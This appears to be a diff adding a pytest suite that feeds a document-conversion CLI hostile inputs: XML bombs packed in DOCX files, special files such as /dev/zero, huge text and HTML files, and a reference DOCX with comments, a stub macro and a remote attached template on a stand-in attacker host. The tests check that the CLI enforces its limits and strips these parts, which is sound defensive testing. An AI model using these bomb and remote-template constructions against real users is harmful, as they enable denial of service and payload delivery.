@@ -1,0 +1,260 @@
+"""Hostile and careless files: every reader bounded, reference documents reduced to their look.
+
+Each hostile file is generated here (no committed binaries). Memory and time ceilings are
+resource limits on the child process (``RLIMIT_AS``, ``RLIMIT_CPU``), never a stopwatch: a
+reader that ran away would be killed by the limit and fail the exit-code assertion.
+"""
+
+from __future__ import annotations
+
+import io
+import os
+import random
+import resource
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from conftest import ROOT, SAMPLE
+
+MEMORY_CEILING = 1024 * 1024 * 1024  # "well under 1 GB": the whole process's address space
+CPU_SECONDS = 20  # "within seconds", as CPU time the kernel enforces
+
+W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
+
+
+def _limit() -> None:
+    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_CEILING, MEMORY_CEILING))
+    resource.setrlimit(resource.RLIMIT_CPU, (CPU_SECONDS, CPU_SECONDS))
+
+
+def run_limited(*args: str, cwd: Path, env: dict | None = None) -> subprocess.CompletedProcess:
+    """The CLI in a child under the memory and CPU ceilings (one process: REPORTER_JOBS=1)."""
+    full_env = {**os.environ, "REPORTER_JOBS": "1", **(env or {})}
+    return subprocess.run([sys.executable, "-m", "reporter", *args], cwd=cwd, env=full_env, capture_output=True,
+                          text=True, timeout=120, preexec_fn=_limit)
+
+
+def one_error_line(result: subprocess.CompletedProcess, *needles: str) -> str:
+    assert result.returncode == 2, (result.returncode, result.stderr[-2000:])
+    lines = result.stderr.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith("reporter: error: "), result.stderr[-2000:]
+    assert "Traceback" not in result.stderr
+    for needle in needles:
+        assert needle in lines[0], lines[0]
+    return lines[0]
+
+
+def write_docx(path: Path, body: bytes | str, *, method: int = zipfile.ZIP_DEFLATED, level: int = 6) -> Path:
+    """A minimal Word package whose body is ``body`` (raw WordprocessingML)."""
+    if isinstance(body, str):
+        body = body.encode()
+    ct = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+          '<Default Extension="xml" ContentType="application/xml"/></Types>')
+    rels = (f'<?xml version="1.0"?><Relationships xmlns="{PKG}"><Relationship Id="rId1" '
+            f'Type="{R}/officeDocument" Target="word/document.xml"/></Relationships>')
+    with zipfile.ZipFile(path, "w", method, compresslevel=level if method == zipfile.ZIP_DEFLATED else None) as z:
+        z.writestr("[Content_Types].xml", ct)
+        z.writestr("_rels/.rels", rels)
+        with z.open("word/document.xml", "w", force_zip64=True) as fh:
+            fh.write(f'<w:document xmlns:w="{W}"><w:body>'.encode())
+            fh.write(body)
+            fh.write(b"</w:body></w:document>")
+    return path
+
+
+def low_ratio_paragraphs(n_bytes: int, seed: int = 13) -> bytes:
+    """Empty paragraphs with varied revision ids: compresses about 20 to 60 times, under the
+    zip-bomb ratio check, so only the XML size limit can stop it."""
+    rng = random.Random(seed)
+    ids = [f"{rng.randrange(16 ** 8):08X}" for _ in range(4096)]
+    one = "".join(f'<w:p w:rsidR="{rng.choice(ids)}"/>' for _ in range(20000)).encode()
+    return one * (n_bytes // len(one) + 1)
+
+
+# ------------------------------------------------------------------ DOCX reads are bounded
+
+
+def test_export_of_a_large_low_ratio_docx_stops_at_the_xml_size_limit(tmp_path):
+    """70 MB of empty paragraphs compressed under the ratio limit (the 190 MB case, smaller)."""
+    path = write_docx(tmp_path / "big.docx", low_ratio_paragraphs(70 * 1024 * 1024))
+    with zipfile.ZipFile(path) as z:
+        info = z.getinfo("word/document.xml")
+        assert info.file_size / info.compress_size < 100  # the bomb check lets it through
+    result = run_limited("export", str(path), "--out", str(tmp_path / "out"), cwd=tmp_path)
+    one_error_line(result, "big.docx", "more than 64 MB", "--max-xml-mb")
+    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())
+
+
+def test_export_of_a_small_file_of_empty_paragraphs_stops_at_the_element_limit(tmp_path):
+    """A few KB of ZIP, 9.9 MB of ``<w:p/>`` (1.7 million elements): under every size check."""
+    path = write_docx(tmp_path / "tiny.docx", b"<w:p/>" * (int(9.9 * 1024 * 1024) // 6), level=9)
+    assert path.stat().st_size < 100_000
+    result = run_limited("export", str(path), "--out", str(tmp_path / "out"), cwd=tmp_path)
+    one_error_line(result, "tiny.docx", "500,000 XML elements", "--max-xml-elements")
+
+
+def test_the_xml_limits_can_be_raised_and_lowered(tmp_path):
+    path = write_docx(tmp_path / "some.docx", "<w:p><w:r><w:t>Hello there.</w:t></w:r></w:p>" * 3000)
+    low = run_limited("export", str(path), "--out", str(tmp_path / "out"), "--max-xml-elements", "1000",
+                      cwd=tmp_path)
+    one_error_line(low, "some.docx", "1,000 XML elements")
+    small = run_limited("export", str(path), "--out", str(tmp_path / "out"), "--max-xml-mb", "0.05", cwd=tmp_path)
+    one_error_line(small, "some.docx", "0.05 MB", "--max-xml-mb")
+    ok = run_limited("export", str(path), "--out", str(tmp_path / "out"), "--format", "docx",
+                     "--max-xml-elements", "20000", cwd=tmp_path)
+    assert ok.returncode == 0, ok.stderr
+    from docx import Document
+
+    assert Document(str(tmp_path / "out" / "some.docx")).paragraphs[-1].text == "Hello there."
+
+
+def test_a_reference_doc_bomb_goes_through_the_same_limits(tmp_path):
+    ref = write_docx(tmp_path / "ref.docx", low_ratio_paragraphs(70 * 1024 * 1024))
+    out = tmp_path / "out"
+    result = run_limited("build", str(SAMPLE), "--format", "docx", "--reference-doc", str(ref), "--out", str(out),
+                         cwd=tmp_path)
+    one_error_line(result, "ref.docx", "--max-xml-mb")
+    assert not out.exists() or not any(out.iterdir())
+    tiny = write_docx(tmp_path / "tiny.docx", b"<w:p/>" * (int(9.9 * 1024 * 1024) // 6), level=9)
+    result = run_limited("build", str(SAMPLE), "--format", "docx", "--reference-doc", str(tiny), "--out", str(out),
+                         cwd=tmp_path)
+    one_error_line(result, "tiny.docx", "--max-xml-elements")
+
+
+# ------------------------------------------------------------- a reference gives its look only
+
+EVIL = "https://attacker.example/template.dotm"
+
+
+def hostile_reference(path: Path) -> Path:
+    """The shipped reference plus comments, custom properties, macros, a remote attached
+    template and an external link in the header."""
+    src = ROOT / "templates" / "reference.docx"
+    with zipfile.ZipFile(src) as z:
+        parts = {n: z.read(n) for n in z.namelist()}
+    ct = parts["[Content_Types].xml"].decode()
+    ct = ct.replace("</Types>",
+                    '<Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-officedocument'
+                    '.wordprocessingml.comments+xml"/><Override PartName="/docProps/custom.xml" ContentType="application/'
+                    'vnd.openxmlformats-officedocument.custom-properties+xml"/><Default Extension="bin" ContentType='
+                    '"application/vnd.ms-office.vbaProject"/></Types>')
+    parts["[Content_Types].xml"] = ct.encode()
+    parts["word/comments.xml"] = (f'<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="Secret Reviewer">'
+                                  '<w:p><w:r><w:t>confidential remark</w:t></w:r></w:p></w:comment></w:comments>').encode()
+    parts["docProps/custom.xml"] = (b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
+                                    b'custom-properties"><property name="ClientCode">ZX-4471</property></Properties>')
+    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro bytes AutoOpen"
+    rels = parts["word/_rels/document.xml.rels"].decode().replace(
+        "</Relationships>",
+        f'<Relationship Id="rId90" Type="{R}/comments" Target="comments.xml"/>'
+        f'<Relationship Id="rId91" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
+        f'Target="vbaProject.bin"/></Relationships>')
+    parts["word/_rels/document.xml.rels"] = rels.encode()
+    pkg_rels = parts["_rels/.rels"].decode().replace(
+        "</Relationships>", f'<Relationship Id="rId9" Type="{R}/custom-properties" Target="docProps/custom.xml"/>'
+                            "</Relationships>")
+    parts["_rels/.rels"] = pkg_rels.encode()
+    settings = parts["word/settings.xml"].decode()
+    head, sep, tail = settings.partition("<w:zoom")
+    settings = head + f'<w:attachedTemplate xmlns:r="{R}" r:id="rId1"/>' + sep + tail
+    parts["word/settings.xml"] = settings.encode()
+    parts["word/_rels/settings.xml.rels"] = (
+        f'<Relationships xmlns="{PKG}"><Relationship Id="rId1" Type="{R}/attachedTemplate" Target="{EVIL}" '
+        'TargetMode="External"/></Relationships>').encode()
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, data in parts.items():
+            z.writestr(name, data)
+    return path
+
+
+def test_a_reference_document_gives_styles_only(tmp_path):
+    ref = hostile_reference(tmp_path / "corporate.docx")
+    out = tmp_path / "out"
+    result = run_limited("build", str(SAMPLE), "--format", "docx", "--reference-doc", str(ref), "--out", str(out),
+                         cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    warnings = [line for line in result.stderr.splitlines() if "reference document: dropped" in line]
+    assert len(warnings) == 1, result.stderr
+    for what in ("comments", "macros (vbaProject.bin)", "attached template", "custom properties"):
+        assert what in warnings[0]
+    (docx,) = out.glob("*.docx")
+    with zipfile.ZipFile(docx) as z:
+        names = z.namelist()
+        blob = b"".join(z.read(n) for n in names)
+    assert not [n for n in names if "comments" in n or "vba" in n.lower() or "custom" in n]
+    for secret in (b"Secret Reviewer", b"confidential remark", b"ZX-4471", b"AutoOpen", EVIL.encode(),
+                   b"attachedTemplate"):
+        assert secret not in blob
+    from docx import Document
+
+    d = Document(str(docx))
+    assert d.styles["Heading 1"] is not None and d.paragraphs[0].text  # the briefing itself is there
+    from test_docx_schema import schema_errors
+
+    assert schema_errors([docx], tmp_path) == []
+
+
+def test_a_clean_reference_document_gives_no_warning(tmp_path):
+    out = tmp_path / "out"
+    result = run_limited("build", str(SAMPLE), "--format", "docx", "--reference-doc",
+                         str(ROOT / "templates" / "reference.docx"), "--out", str(out), cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    assert "dropped" not in result.stderr
+
+
+# ------------------------------------------------------------------------ unbounded reads
+
+
+@pytest.mark.parametrize("special", ["fifo", "dev-zero"])
+def test_only_regular_files_are_read(tmp_path, special):
+    if special == "fifo":
+        path = tmp_path / "article.txt"
+        os.mkfifo(path)
+    else:
+        path = Path("/dev/zero")
+    out = tmp_path / "out"
+    result = run_limited("build", str(path), "--format", "docx", "--out", str(out), cwd=tmp_path)
+    one_error_line(result, str(path), "only regular files are read")
+    assert not out.exists()
+    export = run_limited("export", str(path), "--out", str(out), cwd=tmp_path)
+    one_error_line(export, str(path), "only regular files are read")
+
+
+def test_a_million_short_paragraphs_stop_at_the_character_limit(tmp_path):
+    """The 24 MB file of a million short paragraphs."""
+    path = tmp_path / "million.txt"
+    path.write_text("Title line\n\n" + "".join(f"Short paragraph number {i}.\n\n" for i in range(1_000_000)))
+    assert path.stat().st_size > 24_000_000
+    result = run_limited("build", str(path), "--format", "docx", "--out", str(tmp_path / "out"), cwd=tmp_path)
+    one_error_line(result, "million.txt", "20,000,000 characters", "--max-characters")
+
+
+def test_many_paragraphs_under_the_character_limit_stop_at_the_paragraph_limit(tmp_path):
+    path = tmp_path / "many.txt"
+    path.write_text("Title line\n\n" + "".join(f"Item {i}.\n\n" for i in range(300_000)))
+    result = run_limited("build", str(path), "--format", "docx", "--out", str(tmp_path / "out"), cwd=tmp_path)
+    one_error_line(result, "many.txt", "100,000 paragraphs", "--max-paragraphs")
+
+
+def test_a_large_html_page_stops_at_the_character_limit(tmp_path):
+    """The 34 MB HTML page."""
+    path = tmp_path / "page.html"
+    row = "<div class='c'><p>Some words in a paragraph of a very long page.</p></div>\n"
+    path.write_text("<html><head><title>Long</title></head><body>" + row * (34_000_000 // len(row)) + "</body></html>")
+    result = run_limited("build", str(path), "--format", "docx", "--out", str(tmp_path / "out"), cwd=tmp_path)
+    one_error_line(result, "page.html", "--max-characters")
+
+
+def test_a_file_over_the_size_cap_is_refused_whatever_its_size_says(tmp_path):
+    path = tmp_path / "big.txt"
+    path.write_text("Title\n\n" + "word " * 300_000)
+    result = run_limited("build", str(path), "--format", "docx", "--max-file-mb", "1", "--out",
+                         str(tmp_path / "out"), cwd=tmp_path)
+    one_error_line(result, "big.txt", "more than 1 MB", "--max-file-mb")
